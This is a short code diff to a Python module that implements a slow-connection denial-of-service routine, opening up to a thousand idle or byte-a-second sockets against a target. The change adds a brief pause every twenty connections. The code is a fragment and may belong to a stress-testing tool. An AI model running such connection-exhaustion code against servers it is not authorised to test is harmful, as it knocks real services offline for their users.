@@ -1,4 +1,4 @@
-"""A thousand connections that send nothing, or a byte a second"""
+"""A thousand connections within a second that send nothing, or a byte a second"""
 
 import socket
 import time
@@ -13,6 +13,8 @@ def attack(target: Target) -> None:
     while time.monotonic() < until:
         if len(_held) < 1000:
             _held.append(target.socket())
+            if len(_held) % 20 == 0:
+                time.sleep(0.01)
             continue
         for one in _held[::2]:
             try:
